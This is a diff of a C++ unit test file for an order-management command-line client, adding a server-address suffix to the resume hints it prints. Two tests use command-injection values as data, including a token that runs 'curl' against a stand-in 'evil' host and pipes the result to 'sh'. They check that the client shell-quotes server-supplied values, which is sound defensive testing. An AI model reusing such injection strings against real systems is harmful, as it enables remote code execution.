@@ -51,6 +51,8 @@ class CliTest : public CliUnderTest {
     return Run(arguments, output_takes);
   }
 
+  std::string same_server() const { return " --address=" + server_.address() + "\n"; }
+
   FakeShop server_;
   FakeOrders& fake_ = server_.orders;
 };
@@ -83,6 +85,7 @@ TEST_F(CliHelpTest, UsageErrorsListValidChoicesInOneLine) {
   ExpectUsageError({"sales", "apple"}, "shows all SKUs; takes flags only");
   ExpectUsageError({"get", "a", "--timeout=10"},
                    "\"10\" is not a duration: write it with a unit, as in 10s or 2m");
+  ExpectUsageError({"list", "a"}, "shows all orders; `client get ID` one");
   ExpectUsageError({"list", "--count=none"}, "\"none\" is no whole number from 1 on");
   ExpectUsageError({"list", "--from=x"}, "unknown flag --from");
   ExpectUsageError({"watch", "a"}, "watches all orders; `client track ID` some");
@@ -136,7 +139,8 @@ TEST_F(CliPlaceTest, LostOutputStillSaysTheOrderIsStored) {
   EXPECT_EQ(Client({"place", "--customer=ann", "apple=2"}, /*output_takes=*/0), kOutputLost);
   EXPECT_EQ(err(),
             "client place: cannot write its output: the output takes no more. The order is stored: "
-            "client get a\n");
+            "client get a" +
+                same_server());
 }
 
 TEST_F(CliPlaceTest, QuotesAnIdFromTheServerForAShell) {
@@ -145,7 +149,7 @@ TEST_F(CliPlaceTest, QuotesAnIdFromTheServerForAShell) {
     return grpc::Status::OK;
   });
   EXPECT_EQ(Client({"place", "--customer=ann", "apple=2"}, /*output_takes=*/0), kOutputLost);
-  EXPECT_THAT(err(), EndsWith("The order is stored: client get 'a;evil'\n"));
+  EXPECT_THAT(err(), EndsWith("The order is stored: client get 'a;evil'" + same_server()));
 }
 
 TEST_F(CliPlaceTest, NamesEveryFieldThatIsWrong) {
@@ -358,7 +362,7 @@ TEST_F(CliWatchTest, PrintsEachEventOnceAcrossARestart) {
             "o2  PLACED     2023-11-14T22:13:20Z  ann  apple=2\n"
             "o3  PLACED     2023-11-14T22:13:20Z  ann  apple=2\n"
             "o4  PLACED     2023-11-14T22:13:20Z  ann  apple=2\n");
-  EXPECT_EQ(err(), "client watch: go on with: client watch --from=4\n");
+  EXPECT_EQ(err(), "client watch: go on with: client watch --from=4" + same_server());
 }
 
 TEST_F(CliWatchTest, SaysWhereToResumeBeforeItsLostOutput) {
@@ -368,7 +372,8 @@ TEST_F(CliWatchTest, SaysWhereToResumeBeforeItsLostOutput) {
   EXPECT_EQ(Client({"watch", "--from=start"}, 2 * line.size() + 5), kOutputLost);
   EXPECT_EQ(err(),
             "client watch: cannot write its output: the output takes no more. go on with: client "
-            "watch --from=2\n");
+            "watch --from=2" +
+                same_server());
 }
 
 TEST_F(CliWatchTest, PrintsEventsAsJson) {
@@ -388,7 +393,8 @@ TEST_F(CliWatchTest, ReportsABrokenStreamOnceAGoodbyeNever) {
   EXPECT_EQ(Client({"watch", "--from=start", "--count=2"}), kDone);
   EXPECT_EQ(err(),
             "client watch: UNAVAILABLE: Socket closed. Trying again.\n"
-            "client watch: go on with: client watch --from=2\n");
+            "client watch: go on with: client watch --from=2" +
+                same_server());
 }
 
 TEST_F(CliWatchTest, CtrlCEndsCleanlySayingWhereToResume) {
@@ -398,7 +404,7 @@ TEST_F(CliWatchTest, CtrlCEndsCleanlySayingWhereToResume) {
     return broken_;
   });
   EXPECT_EQ(Client({"watch"}), kDone);
-  EXPECT_THAT(err(), EndsWith("client watch: go on with: client watch --from=1\n"));
+  EXPECT_THAT(err(), EndsWith("client watch: go on with: client watch --from=1" + same_server()));
 }
 
 TEST_F(CliWatchTest, CtrlCBeforeTheCountIsAnInterruption) {
@@ -409,7 +415,8 @@ TEST_F(CliWatchTest, CtrlCBeforeTheCountIsAnInterruption) {
   });
   EXPECT_EQ(Client({"watch", "--count=10"}), kInterrupted);
   EXPECT_THAT(err(), EndsWith("client watch: interrupted after 3 of 10\n"
-                              "client watch: go on with: client watch --from=3\n"));
+                              "client watch: go on with: client watch --from=3" +
+                              same_server()));
 }
 
 TEST_F(CliWatchTest, QuotesATokenFromTheServerForAShell) {
@@ -420,7 +427,8 @@ TEST_F(CliWatchTest, QuotesATokenFromTheServerForAShell) {
     return grpc::Status(StatusCode::PERMISSION_DENIED, "not yours");
   });
   EXPECT_EQ(Client({"watch"}), kRefused);
-  EXPECT_THAT(err(), EndsWith("go on with: client watch --from='x;curl${IFS}evil|sh'\n"));
+  EXPECT_THAT(err(),
+              EndsWith("go on with: client watch --from='x;curl${IFS}evil|sh'" + same_server()));
 }
 
 TEST_F(CliWatchTest, AForeignTokenIsRefused) {
@@ -437,7 +445,8 @@ TEST_F(CliWatchTest, SaysWhereToResumeWhenProxiesKeepFailing) {
   for (int i = 0; i < 9; ++i) Serve("2", 1, 0, removed);
   EXPECT_EQ(Client({"watch", "--from=start"}), kTryAgain);
   EXPECT_THAT(err(), EndsWith("client watch: UNKNOWN: Stream removed\n"
-                              "client watch: go on with: client watch --from=2\n"));
+                              "client watch: go on with: client watch --from=2" +
+                              same_server()));
 }
 
 TEST_F(CliWatchTest, SaysWhereToResumeWhenItIsNotAllowedAnyMore) {
@@ -445,7 +454,8 @@ TEST_F(CliWatchTest, SaysWhereToResumeWhenItIsNotAllowedAnyMore) {
   EXPECT_EQ(Client({"watch", "--from=start"}), kRefused);
   EXPECT_EQ(err(),
             "client watch: PERMISSION_DENIED: not yours\n"
-            "client watch: go on with: client watch --from=2\n");
+            "client watch: go on with: client watch --from=2" +
+                same_server());
 }
 
 TEST_F(CliWatchTest, DoesNotNameATokenWhoseEventsAreRemoved) {
@@ -477,7 +487,8 @@ TEST_F(CliTrackTest, SaysThatItsOutputIsLost) {
   EXPECT_EQ(out(), kOrderA);
   EXPECT_EQ(err(),
             "client track: cannot write its output: the output takes no more. go on with: client "
-            "watch --from=t1\n");
+            "watch --from=t1" +
+                same_server());
 }
 
 TEST_F(CliTrackTest, PrintsEachOrderAndItsChanges) {
@@ -496,7 +507,7 @@ TEST_F(CliTrackTest, PrintsEachOrderAndItsChanges) {
   });
   EXPECT_EQ(Client({"track", "a", "x", "--count=2"}), kDone);
   EXPECT_EQ(out(), std::string(kOrderA) + "x  UNKNOWN     \n");
-  EXPECT_EQ(err(), "client track: go on with: client watch --from=t\n");
+  EXPECT_EQ(err(), "client track: go on with: client watch --from=t" + same_server());
 }
 
 class CliImportTest : public CliTest {
